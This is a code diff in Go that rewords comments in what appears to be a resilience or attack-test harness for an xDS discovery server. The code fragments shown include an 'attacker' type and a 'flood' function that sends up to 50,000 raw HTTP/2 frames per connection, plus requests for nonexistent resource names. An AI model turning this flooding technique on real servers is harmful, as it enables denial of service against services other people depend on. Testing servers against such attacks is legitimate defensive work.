@@ -45,7 +45,7 @@ func newAttacker(plan Plan) (*attacker, error) {
 
 type stream = grpc.BidiStreamingClient[discoveryv3.DeltaDiscoveryRequest, discoveryv3.DeltaDiscoveryResponse]
 
-// withStream opens a stream on a connection of its own. Windows are small: what it does not read stays
+// withStream opens a stream on its own connection. Windows are small: what it does not read stays
 // with the server.
 func (a *attacker) withStream(ctx context.Context, use func(stream) error) error {
 	ctx, cancel := context.WithCancel(ctx)
@@ -154,7 +154,7 @@ func drain(ctx context.Context, s stream, answer func(*discoveryv3.DeltaDiscover
 	return nil
 }
 
-// names are so many names of a length, none of which exists.
+// names returns a number of nonexistent names of a length.
 func names(n, length int) []string {
 	all := make([]string, n)
 	for i := range all {
@@ -163,7 +163,7 @@ func names(n, length int) []string {
 	return all
 }
 
-// opening are the headers of a new stream, in a form that depends on no earlier ones.
+// opening returns the headers of a new stream, in a form that depends on no earlier ones.
 func opening() []byte {
 	var block bytes.Buffer
 	encoder := hpack.NewEncoder(&block)
@@ -177,7 +177,7 @@ func opening() []byte {
 	return block.Bytes()
 }
 
-// flood sends frames until the server has enough: up to 50,000 on a connection.
+// flood sends frames until the server ends the connection, at most 50,000 on a connection.
 func flood(frame func(f *http2.Framer, id uint32) error) func(context.Context, *attacker) error {
 	return func(ctx context.Context, a *attacker) error {
 		raw, err := a.dial(ctx, a.Meshed)
@@ -192,7 +192,7 @@ func flood(frame func(f *http2.Framer, id uint32) error) func(context.Context, *
 		if _, err := conn.Write([]byte(http2.ClientPreface)); err != nil {
 			return err
 		}
-		go func() { _ = untilClosed(ctx, conn) }() // what it says is of no interest
+		go func() { _ = untilClosed(ctx, conn) }() // its responses do not matter
 		framer := http2.NewFramer(conn, nil)
 		if err := framer.WriteSettings(); err != nil {
 			return err
